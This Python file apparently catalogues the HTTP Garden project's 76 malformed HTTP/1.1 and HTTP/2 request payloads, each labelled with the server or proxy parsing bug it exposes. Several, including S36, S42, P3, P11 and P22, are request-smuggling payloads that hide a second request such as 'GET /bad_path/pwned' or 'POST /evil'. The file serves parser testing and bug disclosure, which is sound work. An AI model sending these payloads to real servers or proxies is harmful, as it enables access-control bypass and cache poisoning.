# SPDX-License-Identifier: Apache-2.0
"""The 76 payloads that HTTP Garden names for bugs of servers (S), of proxies (P), and of either beside them (B): the bytes are
facts, the words are ours.
"""
G, P = b"GET / HTTP/1.1\r\n", b"POST / HTTP/1.1\r\n"
A, W = b"Host: a\r\n", b"Host: whatever\r\n"
CODED = b"Transfer-Encoding: chunked\r\n"
HTTP2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00\x00\x00"
SECOND = G + A + b"Content-Length: 5\r\n\r\n0\r\n\r\n"
CONTROLS = bytes(range(10)) + b"\x0b\x0c" + bytes(range(0x0e, 0x20))

PAYLOADS = {
    "S1 underscore in a chunk size": G + A + CODED + b"\r\n0_2e\r\n\r\n" + SECOND,
    "S2 NUL and CR in a value": G + A + b"Header: v\x00\ralue\r\n\r\n",
    "S3 blank behind a name": G + W + b"Content-Length : 34\r\n\r\n" + G + W + b"\r\n",
    "S4 tab before the first name": G + b"\tContent-Length: 1\r\n\r\nX",
    "S5 version with more digits": b"GET /test HTTP/1.32\r\n\r\n",
    "S6 method with separators": b'G=":<>(e),[T];?" /get HTTP/1.1\r\n\r\n',
    "S7 target that is no URI": b"GET ! HTTP/1.1\r\n\r\n",
    "S8 byte above 0x7f in a name": G + b"\xefoo: bar\r\n\r\n",
    "S9 LF between target and version": b"GET /\nHTTP/1.1\r\n\r\n",
    "S10 sign and underscore in a length": G + A + b"Content-Length: +1_0\r\n\r\n0123456789",
    "S11 the coding twice": P + CODED + CODED + b"\r\n1\r\nZ\r\n0\r\n\r\n",
    "S12 0xa0 around the coding": P + W + b"Transfer-Encoding: \xa0chunked\xa0\r\n\r\n0\r\n\r\n",
    "S13 CR as the end of a field": G + b"Visible: :/\rSmuggled: :)\r\n\r\n",
    "S14 controls and separators in a name": G + CONTROLS + b' "(),/;<=>?@[/]{}: whatever\r\n\r\n',
    "S15 CR in the version": b"GET / HTTP/\r\r1.1\r\n\r\n",
    "S16 empty length": G + W + b"Content-Length: \r\n\r\n",
    "S17 empty chunk size": G + W + CODED + b"\r\n\r\n\r\n",
    "S18 empty name": G + b": ignored\r\n" + W + b"\r\n",
    "S19 LF before a value": G + A + b"Useless:\n\n" + G + b"\r\n",
    "S20 0x85 behind a name": G + A + b"Content-Length\x85: 10\r\n\r\n0123456789",
    "S21 comma before the coding": G + W + b"Transfer-Encoding: ,chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    "S22 chunk size read as far as it goes": G + A + CODED + b"\r\n0_2e\r\n\r\n" + SECOND,
    "S23 two lengths, the first taken": G + A + b"Content-Length: 1\r\nContent-Length: 0\r\n\r\nZ",
    "S24 version that overflows": b"GET / HTTP/4294967295.255\r\n\r\n",
    "S25 coding without a chunk": G + CODED + b"\r\n",
    "S26 negative length": G + A + b"Content-Length: -48\r\n\r\n",
    "S27 neither name nor value": G + b":\r\nI: am chopped off\r\n\r\n",
    "S28 length without a colon": G + b"Content-Length 10\r\n\r\n0123456789",
    "S29 letter behind a length": G + b"Content-Length: 1Z\r\n\r\nZ",
    "S30 CR and a byte as the end of the head": G + A + b"\rZGET /evil: HTTP/1.1\r\n" + A + b"\r\n",
    "S31 CR and a byte as the end of a chunk line": G + A + CODED + b"\r\n5\r\r;ABCD\r\n34\r\nE\r\n0\r\n\r\n" + SECOND,
    "S32 length with a leading zero": G + W + b"Content-Length: 010\r\n\r\n01234567",
    "S33 two lengths, the last taken": G + A + b"Content-Length: 0\r\nContent-Length: 1\r\n\r\nZ",
    "S34 CR in a value": G + W + b"Header: va\rlue\r\n\r\n",
    "S35 NUL within a value": G + W + b"Test: test\x00THESE BYTES GET DROPPED\r\nConnection: close\r\n\r\n",
    "S36 CR in a chunk extension": (b"POST /abc HTTP/1.1\r\n" + CODED + b"Host: h2o.http-garden.us\r\n\r\n"
                                    + b"41;a=b\r\r" + b"X" * 65 + b"\r\n0\r\n\r\n"
                                    + b"GET /bad_path/pwned HTTP/1.1\r\n" + A + b"Content-Length: 412\r\n\r\n0\r\n\r\n"
                                    + b"GET /def HTTP/1.1\r\nHost: h2o.http-garden.us\r\n\r\n"),
    "S37 name over two lines": P + W + b"Transfer-\r\nEncoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    "S38 empty length, read until the end": G + b"Host: localhost\r\nContent-Length: \r\n\r\n" + G + b"Host: localhost\r\n\r\n",
    "S39 two bytes as the end of the chunks": G + CODED + b"\r\n0\r\nX:" + P + b"\r\n",
    "S40 method and version of other bytes": b"\x00 / HTTP/............0596.7407.\r\n\r\n",
    "S41 0x85 and 0xa0 around a value": b"GET /login HTTP/1.1\r\n" + A + b"User: \x85admin\xa0\r\n\r\n",
    "S42 empty length before another": (G + b"Content-Length: \r\nContent-Length: 43\r\n\r\n"
                                        + b"POST /evil HTTP/1.1\r\nContent-Length: 18\r\n\r\n" + G + b"\r\n"),
    "S43 NUL behind a value": G + b"Evil: evil\x00\r\n\r\n",
    "S44 unknown coding": P + A + b"Transfer-Encoding: blegh\r\n\r\n1\r\nZ\r\n0\r\n\r\n",
    "S45 garbage behind the last request": G + b"Connection: close\r\n\r\nInvalid\r\n\r\n",
    "S46 0xff around host and coding": P + b"Host: \xffa\xff\r\nTransfer-Encoding: \xffchunked\xff\r\n\r\n1\r\nZ\r\n0\r\n\r\n",
    "S47 request behind a bad chunk": P + W + CODED + b"\r\nINVALID!!!\r\n" + G + W + b"\r\n",
    "S48 pipelined behind length zero": (P + b"Content-Length: 0\r\nConnection:keep-alive\r\n" + A + b"id: 0\r\n\r\n" + P + A + b"id: 1\r\n"
                                         + b"Content-Length: 34\r\n\r\n" + G + A + b"id: 2\r\n\r\n"),
    "P1 hexadecimal length": P + b"Host: akamai.my-domain.cool\r\nContent-Length: 0x10\r\n\r\nZ",
    "P2 letters as chunk sizes": P + b"Host: akamai.my-domain.cool\r\n" + CODED + b"\r\nZ\r\nZZ\r\nZZZ\r\n\r\n",
    "P3 CR before a chunk extension": (P + b"Host: server.my-domain.cool\r\n" + CODED + b"\r\n2\r\r;a\r\n02\r\n41\r\n0\r\n\r\n"
                                       + b"GET /bad_path/pwned HTTP/1.1\r\n" + A + b"Content-Length: 430\r\n\r\n0\r\n\r\n"
                                       + G + b"Host: server.my-domain.cool\r\n\r\n"),
    "P4 chunk line of CR and LF apart": b"POST /  HTTP/1.1\r\n" + CODED + b"\r\n1\r0\n",
    "P5 empty length in lower case": G + b"host: whatever\r\ncontent-length: \r\n\r\n",
    "P6 0x85 in a name": G + b"Host: fanout\r\nHeader\x85: value\r\n\r\n",
    "P7 words behind a chunk size": P + CODED + b"\r\n1these-bytes-never-get-validated\r\nZ\r\n0\r\n\r\n",
    "P9 comma before the coding alone": P + A + b"Transfer-Encoding: ,chunked\r\n\r\n0\r\n\r\n",
    "P10 several CR in a value": G + b"Invalid-Header: this\rvalue\ris\rinvalid\r\n\r\n",
    "P11 empty length, then one": (G + b"host: whatever\r\ncontent-length: \r\ncontent-length: 59\r\n\r\n"
                                   + b"POST /evil HTTP/1.1\r\nhost: whatever\r\ncontent-length: 34\r\n\r\n" + G + b"host: whatever\r\n\r\n"),
    "P12 NUL in the host": G + b"Host: google.com\x00.kallus.org\r\n\r\n",
    "P13 LF behind a chunk": G + CODED + b"\r\na\r\n0123456789\n0\r\n\r\n",
    "P14 line without a colon": G + W + b"Te\nst: test\r\nConnection: close\r\n\r\n",
    "P15 unknown coding and a length": G + W + b"Transfer-Encoding: ,chunked\r\nContent-Length: 5\r\nConnection: close\r\n\r\n0r\n\r\n",
    "P16 LF everywhere": b"GET / HTTP/1.1\nHost: whatever\nConnection: close\n\n",
    "P17 empty line before the last chunk": P + A + CODED + b"\r\n17\r\n0\r\n\r\n" + G + b"\r\n\r\n\r\n0\r\n\r\n",
    "P18 comma before the coding, with a length": G + W + b"Transfer-Encoding: ,chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    "P19 sign and 0x in a chunk size": P + CODED + b"\r\n-0x0\r\n\r\n",
    "P20 NUL in a line without a colon": G + b"a:b\r\nc\x00\r\n\r\n",
    "P21 GET with a body": G + b"Content-Length: 10\r\n\r\n1234567890",
    "P22 two lengths and a request": P + A + b"Content-Length: 0\r\nContent-Length: 31\r\n\r\nGET /evil HTTP/1.1\r\n" + A + b"\r\n",
    "P23 length and coding": P + A + b"Content-Length: 5\r\n" + CODED + b"\r\n0\r\n\r\n",
    "P24 blanks before a chunk size": P + A + CODED + b"\r\n           0\r\n\r\n",
    "P25 the coding twice, with a host": P + W + CODED + CODED + b"\r\n0\r\n\r\n",
    "B3 a byte behind a chunked body": G + W + CODED + b"\r\n0\r\n\r\n\x00",
    "B4 one chunk": P + W + CODED + b"\r\n1\r\nZ\r\n0\r\n\r\n",
    "B1 blanks around a value of HTTP/2": HTTP2 + b"E\x01\x05\x00\x00\x00\x01\x00\n"
                                          b":authority\tlocalhost\x00\x05:path\x01/\x00\x07:method\x03GET"
                                          b"\x00\x07:scheme\x04http\x00\x05test1\x03\ta\t",
    "B2 empty name of HTTP/2": HTTP2 + b"=\x01\x05\x00\x00\x00\x01\x00\n:authority\tlocalhost\x00\x05:path\x01/\x00\x07:method\x03GET"
                               b"\x00\x07:scheme\x04http\x00\x00\x00",
}


def with_host(payload):
    """The same with a Host where it has none, so that it is not refused for that alone; the same bytes where it has one."""
    line, ended, rest = payload.partition(b"\n")
    if b"host:" in payload.lower() or not ended or payload.startswith(b"PRI"):
        return payload
    return line + ended + A + rest


def as_response(payload):
    """The payload with a status line for its request line."""
    return b"HTTP/1.1 200 OK\r\n" + payload.partition(b"\n")[2]
